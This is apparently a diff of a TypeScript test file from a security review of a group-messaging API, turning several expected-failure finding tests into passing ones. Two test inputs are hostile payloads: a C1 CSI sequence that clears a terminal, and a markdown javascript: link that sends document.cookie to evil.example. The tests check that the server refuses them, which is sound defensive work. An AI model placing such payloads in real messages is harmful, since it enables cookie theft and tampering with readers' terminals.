@@ -117,7 +117,7 @@ describe("review of issue 14", () => {
       expect(await hitsOf(res.sendAppMessage.messages.nodes.map((x: { id: string }) => x.id))).toBe(2);
     });
 
-    it.failing("FINDING 2: a member who neither sent nor read a message does not receive another member's MessageRead", async () => {
+    it("FINDING 2: a member who neither sent nor read a message does not receive another member's MessageRead", async () => {
       const g = await group(t.alice, "Receipts", [m.bob, m.carol]);
       const carol = gw.subscribe(client(t.carol), EVENTS, { c: g, after: await gw.eventMark(corp.corpPk) });
       const first = await send(t.alice, g, { text: { content: "first" } });
@@ -139,14 +139,14 @@ describe("review of issue 14", () => {
       expect(await hitsOf([shy.id])).toBe(1);
     });
 
-    it.failing("FINDING 4: C1 control characters (U+0080–U+009F) are refused in free text like the C0 ones", async () => {
+    it("FINDING 4: C1 control characters (U+0080–U+009F) are refused in free text like the C0 ones", async () => {
       const g = await group(t.alice, "Controls", [m.bob]);
       // U+009B is the 8-bit CSI: "\u009b2J" clears a terminal that shows the message (a log viewer, a CLI client).
       const res = await gw.gql(t.alice, SEND, { input: { conversationId: g, clientMessageId: "c1", text: { content: "hi\u009b2J\u0085there" } } });
       expectOneError(res, "BAD_USER_INPUT", "input.text.content");
     });
 
-    it.failing("FINDING 5: concurrent remindUnread of one message: one reminds, the other is LIMIT_EXCEEDED, never an internal error", async () => {
+    it("FINDING 5: concurrent remindUnread of one message: one reminds, the other is LIMIT_EXCEEDED, never an internal error", async () => {
       const g = await group(t.alice, "Reminders", [m.bob, m.carol]);
       const codes: string[] = [];
       for (let i = 0; i < 8; i++) {
@@ -212,7 +212,7 @@ describe("review of issue 14", () => {
       expect(rows).toHaveLength(1);
     });
 
-    it.failing("FINDING 8: markdown (from a member or a robot's webhook) may not carry a javascript: link", async () => {
+    it("FINDING 8: markdown (from a member or a robot's webhook) may not carry a javascript: link", async () => {
       const g = await group(t.alice, "Links", [m.bob]);
       const res = await gw.gql(t.alice, SEND, {
         input: { conversationId: g, clientMessageId: "js-1", markdown: { content: "[Open the report](javascript:fetch('//evil.example/'+document.cookie))" } },
